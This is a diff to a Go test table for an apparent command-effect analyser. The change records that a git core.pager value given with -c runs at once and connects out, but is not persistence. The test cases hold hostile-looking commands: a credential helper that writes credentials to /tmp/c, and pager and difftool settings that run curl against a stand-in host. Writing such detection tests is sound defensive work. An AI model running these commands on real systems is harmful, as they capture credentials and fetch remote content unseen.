@@ -81,7 +81,10 @@ func TestGitConfigKeyEffects(t *testing.T) {
 		{name: "credential helper shell", cmd: `git config --global credential.helper '!f(){ cat >/tmp/c; }; f'`,
 			want: []fx{{kind: EffectPersistence, target: "git config credential.helper"}}},
 		{name: "-c pager runs now", cmd: `git -c core.pager='curl -s https://x.example/p' log`,
-			want: []fx{{kind: EffectExec, target: "sh"}, {kind: EffectConnect, target: "x.example"}, {kind: EffectPersistence, target: "git config core.pager"}}},
+			want: []fx{{kind: EffectExec, target: "sh"}, {kind: EffectConnect, target: "x.example"}},
+			// A key given to one command is walked as that command's code (spec_effects.go), with
+			// git's data flowing into it; nothing is planted.
+			not: []fx{{kind: EffectPersistence, target: "git config core.pager"}}},
 		{name: "env config count", cmd: `GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=difftool.x.cmd GIT_CONFIG_VALUE_0='curl -s https://x.example/p' git difftool`,
 			want: []fx{{kind: EffectConnect, target: "x.example"}}},
 		// Ordinary configuration: no effect beyond the write of the configuration.
